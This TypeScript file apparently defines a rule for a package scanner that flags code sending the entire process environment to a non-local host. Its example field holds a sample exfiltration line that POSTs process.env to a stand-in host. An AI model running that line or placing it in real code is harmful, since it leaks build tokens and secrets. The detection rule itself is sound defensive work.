import { isLocalHost } from "../hosts.ts";
import type { Rule } from "../rule.ts";
import type { Value } from "../../program/value.ts";
import { flowsOf, placeOf } from "../view.ts";

export const sendsEnvironment: Rule = {
  id: "sends-environment",
  title: "Sends the whole environment away",
  why:
    "The environment of a build holds its tokens. Telemetry sends chosen variables; only thieves and " +
    "careless error reports send all of them.",
  example:
    'fetch("https://collect.invalid", { method: "POST", body: JSON.stringify(process.env) });',
  advice: "Do not install it. If it has run, revoke every secret that was in the environment.",
  severity: "critical",
  confidence: "high",
  look: (view) =>
    view.sends.flatMap((use) => {
      const site = { node: use.call.node, scope: use.call.scope };
      // A program is given its environment by an option; what it sends is on its command line.
      const isProgram = use.spec?.takes === "spawn";
      const isBody = (arg: Value): boolean =>
        view.evaluator.environmentIn(arg, site, isProgram ? 3 : 2).length > 0;
      if (flowsOf(use, "whole-environment").length === 0 && !use.args.some(isBody)) return [];
      const hosts = view.hostsOf(use);
      const [host] = hosts;
      if (host !== undefined && isLocalHost(host)) return [];
      const isKnown = host !== undefined && !host.startsWith("…");
      const where = isKnown ? host : "an address that is not written out";
      const message = `All variables of the environment are sent to ${where}.`;
      return [
        {
          place: placeOf(use),
          message,
          severity: isKnown ? ("critical" as const) : ("medium" as const),
          confidence: isKnown ? ("high" as const) : ("low" as const),
        },
      ];
    }),
};
